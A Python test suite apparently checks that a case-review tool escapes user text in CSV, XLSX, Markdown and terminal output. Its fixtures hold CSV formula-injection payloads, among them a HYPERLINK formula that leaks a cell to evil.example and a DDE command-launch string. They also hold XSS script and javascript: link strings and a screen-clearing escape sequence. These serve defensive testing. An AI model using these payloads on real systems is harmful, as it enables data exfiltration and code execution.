"""What people typed is shown, never run: no formula in a CSV or XLSX cell, no HTML or link in Markdown, no
terminal control sequence in text output. Properties over arbitrary text, then the real command line."""

from __future__ import annotations

import csv
import io
import os
import pty
import select
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from reviewflow.engine.core.reports.layout import Layout, Section, Table
from reviewflow.engine.render.escape import (
    FORMULA_START,
    cell_text,
    is_number_text,
    markdown_text,
    printable,
    printable_lines,
)
from reviewflow.engine.render.reports.markdown import render_markdown
from reviewflow.engine.render.reports.tabular import render_csv
from reviewflow.engine.render.reports.xlsx import render_xlsx

from tests.databases import Templates
from tests.test_import_export import NO_ENV, _demo_like
from tests.test_safe_files import run

WIPE = "\x1b[2J"
"""Clears the screen when a terminal is sent it."""
HOSTILE = ["=2+3", '=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1",
           "\t=1", "\r=1", "-", "-3", "-66.7%", "+4.5e3", "<script>alert(1)</script>", "[x](javascript:alert(1))",
           f"note {WIPE} bell \x07 \u202e rtl \x9b31m", "![i](http://evil.example/x.png)", "<http://evil.example>",
           "# heading", "1. item", "| cell |", "&lt;script&gt;", "\\[x](javascript:alert(1))"]
TEXT = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30),
                 st.builds("".join, st.lists(st.sampled_from([*FORMULA_START, "'", "1", ".", "%", "e", "x", "<", "["]),
                                             max_size=6)))


def _layout(rows: list[tuple[str, int | float]]) -> Layout:
    table = Table("things", "Things", ("text", "number"), tuple(rows))
    return Layout("t", (), (("a figure", rows[0][0] if rows else "1"),), (Section("s", tables=(table,)),), ())


def _inert(cell: str) -> bool:
    """A spreadsheet cannot run it: it starts with none of = + - @ tab CR, or it is a number."""
    return not cell.startswith(FORMULA_START) or is_number_text(cell)


# --- spreadsheets ---------------------------------------------------------------------------------------

@given(st.lists(st.tuples(TEXT, st.one_of(st.integers(-10**6, 10**6), st.floats(-1e6, 1e6, allow_nan=False))),
                max_size=5))
@example([("=2+3", -3), ('=HYPERLINK("x")', -0.5), ("@SUM(A1)", 0)])
@example([("\t=1", 1), ("\r=1", 1), ("-", 1), ("-1+1", 1)])
def test_no_csv_cell_starts_a_formula_unless_it_is_a_number(rows: list[tuple[str, int | float]]) -> None:
    back = list(csv.reader(io.StringIO(render_csv(_layout(rows)), newline="")))
    assert all(_inert(cell) for row in back for cell in row)
    table = back[back.index(["[things]"]) + 2:][:len(rows)]
    for (text, number), (shown, shown_number) in zip(rows, table, strict=True):
        assert shown == text or shown == "'" + text  # the value kept, at most a leading ' added
        assert float(shown_number) == pytest.approx(number)  # negative numbers stay numbers


@settings(deadline=None, max_examples=40)  # a workbook takes a few milliseconds to write and read
@given(st.lists(st.tuples(TEXT, st.integers(-10**6, 10**6)), min_size=1, max_size=4))
@example([("=2+3", -3), ("@SUM(A1)", -1)])
def test_no_xlsx_cell_is_a_formula_or_starts_one(rows: list[tuple[str, int | float]]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(_layout(rows))))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert _inert(cell.value), (sheet.title, cell.coordinate, cell.value)
    numbers = [row[1].value for row in book["things"].iter_rows(min_row=2)]
    assert numbers == [number for _text, number in rows]


def test_cell_text_follows_owasp() -> None:
    assert [cell_text(t) for t in ("=2+3", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-")] == [
        "'=2+3", "'+1+1", "'-1+1", "'@SUM(A1)", "'\t=1", "'\r=1", "'-"]
    assert [cell_text(t) for t in ("-3", "+1", "+4.5", "-66.7%", "plain", "'=quoted", "")] == [
        "-3", "+1", "+4.5", "-66.7%", "plain", "'=quoted", ""]


# --- Markdown -------------------------------------------------------------------------------------------------

MARKDOWN = MarkdownIt("commonmark").enable("table")
_MADE = {"html_inline", "html_block", "link_open", "image", "code_inline", "code_block", "fence", "em_open",
         "strong_open", "s_open", "heading_open", "blockquote_open", "bullet_list_open", "ordered_list_open", "hr",
         "table_open"}
"""What escaped text must never turn into."""


def _tokens(source: str) -> list[str]:
    found = []
    for token in MARKDOWN.parse(source):
        found.append(token.type)
        found.extend(child.type for child in token.children or ())
    return found


def _text(source: str) -> str:
    return "".join(child.content for token in MARKDOWN.parse(source) if token.type == "inline"
                   for child in token.children or () if child.type == "text")


@given(TEXT)
@example("<script>alert(1)</script>")
@example("[x](javascript:alert(1))")
@example("<javascript:alert(1)>")
@example("*a* _b_ `c` ~~d~~")
@example("1) item")
@example("===")
@example("\x00")
def test_escaped_text_is_plain_text_in_commonmark(text: str) -> None:
    escaped = markdown_text(text)
    assert not _MADE & set(_tokens(escaped)), escaped
    shown = " ".join(text.split()).replace("\x00", "\ufffd")  # CommonMark shows NUL as U+FFFD
    assert _text(escaped) == shown  # shown exactly as typed (on one line)
    cell = f"| a |\n|---|\n| {escaped} |\n"
    assert not (_MADE - {"table_open"}) & set(_tokens(cell)), cell


def test_a_markdown_report_shows_script_and_links_as_text() -> None:
    page = MARKDOWN.render(render_markdown(_layout([("<script>alert(1)</script>", 1), ("[x](javascript:go())", 2)])))
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<a " not in page
    assert "[x](javascript:go())" in page


# --- terminals -------------------------------------------------------------------------------------------------

def test_controls_are_shown_as_escapes() -> None:
    assert printable(f"a{WIPE}b\x07\x9b\u202e\u2028\x7f\r\n\t") == "a\\x1b[2Jb\\x07\\x9b\\u202e\\u2028\\x7f\\r\\n\\t"
    assert printable("accents é, emoji 😀, right-to-left مرحبا") == "accents é, emoji 😀, right-to-left مرحبا"
    assert printable_lines(f"a,b\r\n{WIPE}\tc\r\n") == "a,b\n\\x1b[2J\tc\n"


@pytest.fixture
def hostile(db_url: str, templates: Templates) -> str:
    """The small database of test_import_export, with a case whose note and theme would clear the screen."""
    templates.copy(db_url, "test_import_export: _demo_like", _demo_like)
    run(db_url, "--now", "2026-01-08", "case", "open", "minimal", "--ref", "MIN-2026-009", "--as", "bm", "--field",
        f"notifying_agency=Police {WIPE}", "--note", f"wipe {WIPE} the screen")
    for theme in ("=HYPERLINK(\"http://evil.example\")", "<script>alert(1)</script>"):  # on the list: an admin's
        run(db_url, "--now", "2026-01-08", "theme", "add", theme, "--label", f"{theme} label")
    run(db_url, "--now", "2026-01-08", "case", "recommend", "MIN-2026-009", "--text", f"=2+3 {WIPE}", "--theme",
        "=HYPERLINK(\"http://evil.example\")", "--theme", "<script>alert(1)</script>", "--as", "bm")
    run(db_url, "--now", "2026-01-08", "case", "disseminate", "MIN-2026-009", "--kind", "briefing", "--audience",
        f"@SUM(1+1) GP leads {WIPE}", "--date", "2026-01-08", "--as", "bm")
    return db_url


def test_a_note_that_would_clear_the_screen_is_shown_escaped(hostile: str) -> None:
    for args in (("case", "timeline", "MIN-2026-009"), ("case", "show", "MIN-2026-009")):
        shown = run(hostile, "--now", "2026-01-09", *args).stdout
        assert "wipe \\x1b[2J the screen" in shown, args
        assert "\x1b" not in shown, args


def test_reports_neutralise_what_people_typed(hostile: str) -> None:
    csv_text = run(hostile, "--now", "2026-02-02", "report", "board", "--format", "csv").stdout
    cells = [cell for row in csv.reader(io.StringIO(csv_text, newline="")) for cell in row]
    assert any(cell.startswith("'=hyperlink") for cell in cells)  # themes are kept in lower case
    assert any(cell.startswith("'@SUM(1+1) GP leads") for cell in cells)
    assert all(_inert(cell) for cell in cells)
    markdown = run(hostile, "--now", "2026-02-02", "report", "board", "--format", "md").stdout
    assert "\\<script\\>alert(1)\\</script\\>" in markdown
    assert "<script>" not in markdown


def test_a_report_printed_on_a_terminal_shows_controls_as_escapes(hostile: str) -> None:
    if not hostile.startswith("sqlite"):
        pytest.skip("one database is enough to see what a terminal is sent")
    controller, terminal = pty.openpty()
    env = {k: v for k, v in os.environ.items() if k not in NO_ENV}
    try:
        child = subprocess.Popen([sys.executable, "-m", "reviewflow.cli", "--db", hostile, "--now", "2026-02-02",
                                  "report", "board", "--format", "csv"], stdout=terminal, stderr=subprocess.PIPE,
                                 stdin=subprocess.DEVNULL, env=env)
        os.close(terminal)
        shown = b""
        while True:
            ready, _, _ = select.select([controller], [], [], 30)
            if not ready:
                break
            try:
                chunk = os.read(controller, 65536)
            except OSError:  # the child closed the terminal
                break
            if not chunk:
                break
            shown += chunk
        assert child.wait(timeout=60) == 0, child.stderr.read() if child.stderr else ""
    finally:
        os.close(controller)
    text = shown.decode("utf-8")
    assert "\\x1b[2J" in text
    assert "\x1b" not in text


def test_a_report_written_to_a_file_is_neutralised_too(hostile: str, tmp_path: Path) -> None:
    out = tmp_path / "board.xlsx"
    run(hostile, "--now", "2026-02-02", "report", "board", "--out", str(out))
    book = openpyxl.load_workbook(out)
    values = [(c.value, c.data_type) for s in book.worksheets for r in s.iter_rows() for c in r if c.value]
    assert any(isinstance(v, str) and v.startswith("'=hyperlink") for v, _ in values)
    assert any(isinstance(v, str) and v.startswith("'@SUM(1+1)") for v, _ in values)
    assert all(kind != "f" and (not isinstance(v, str) or _inert(v)) for v, kind in values)
